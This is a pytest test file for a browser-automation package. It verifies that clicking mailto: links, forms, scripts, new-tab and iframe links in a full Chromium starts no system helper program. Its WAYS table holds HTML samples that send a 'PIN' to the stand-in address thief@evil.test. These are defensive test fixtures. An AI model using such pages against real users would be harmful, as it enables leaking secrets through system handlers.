"""No page starts a program of the system: the helper that a full Chromium hands such addresses to does nothing."""

from __future__ import annotations

import asyncio
import os
import stat
from typing import TYPE_CHECKING

import pytest

from pytest_webagent.browser import openers
from pytest_webagent.browser.executable import installed, playwrights_own
from pytest_webagent.browser.pool import BrowserPool
from pytest_webagent.config import Settings

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

    from conftest import Site

    from pytest_webagent.browser.session import BrowserSession

WRITES = '#!/bin/sh\necho {word} "$@" >> {told}\n'
WAYS = {
    "a link for mail": "<a id=go href='mailto:thief@evil.test?body=PIN'>go</a>",
    "a script": "<button id=go onclick=\"location = 'mailto:thief@evil.test'\">go</button>",
    "a form": "<form action='mailto:thief@evil.test'><input name=a value=PIN><button id=go>go</button></form>",
    "a new tab": "<a id=go target=_blank href='mailto:thief@evil.test'>go</a>",
    "a link in a frame": "<a id=go target=inner href='mailto:thief@evil.test'>go</a><iframe name=inner></iframe>",
}


def program(path: Path, word: str, told: Path) -> Path:
    """A program that writes down that it was called."""
    path.write_text(WRITES.format(word=word, told=told), encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


@pytest.fixture
def told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """What the helper of the system, and what stands in for it, write down."""
    told, folder = tmp_path / "told", tmp_path / "system"
    folder.mkdir()
    for name in openers.HELPERS:
        program(folder / name, "system", told)
    program(folder / "stands-in", "nothing", told)
    monkeypatch.setattr(openers, "_NOTHING", "stands-in")
    monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")
    return told


@pytest.fixture
async def full(told: Path) -> AsyncIterator[BrowserSession]:
    """A session in a full Chromium: the headless shell opens nothing by itself."""
    path = playwrights_own(headed=True) or installed(headed=True)
    if path is None:
        pytest.skip("there is no full Chromium on this machine")
    pool = BrowserPool(Settings(browser_path=str(path)))
    session = await pool.new_session(Settings())
    session.attend()
    yield session
    await session.close()
    await pool.close()


def called(told: Path) -> list[str]:
    """Whose helper was called, in order."""
    return (
        [line.split()[0] for line in told.read_text(encoding="utf-8").splitlines()] if told.exists() else []
    )


async def first_called(told: Path) -> list[str]:
    """The same, once one was."""
    for _ in range(200):
        if names := called(told):
            return names
        await asyncio.sleep(0.05)
    return []


@pytest.mark.held_by(
    "pytest_webagent.browser.pool.without_openers", lambda folder, environment=os.environ: dict(environment)
)
@pytest.mark.parametrize("html", WAYS.values(), ids=WAYS)
async def test_nothing_of_the_system_is_started(
    full: BrowserSession, site: Site, told: Path, html: str
) -> None:
    await full.goto(site.page("/", html))
    await full.act(lambda: full.page.click("#go"))
    assert set(await first_called(told)) == {"nothing"}


async def test_a_link_to_a_page_is_followed_and_the_rest_of_the_environment_stays(
    full: BrowserSession, site: Site
) -> None:
    site.page("/next", "<h1>Next</h1>")
    await full.goto(site.page("/", "<a id=go href=/next>go</a>"))
    await full.act(lambda: full.page.click("#go"))
    assert await full.page.inner_text("h1") == "Next"


def test_the_browser_finds_all_else_where_it_was(tmp_path: Path) -> None:
    environment = {"PATH": "/usr/bin:/bin", "LANG": "de_DE.UTF-8"}
    given = openers.without_openers(tmp_path, environment)
    assert given == {**environment, "PATH": f"{tmp_path}:/usr/bin:/bin"}
    assert {path.name for path in tmp_path.iterdir()} == set(openers.HELPERS)
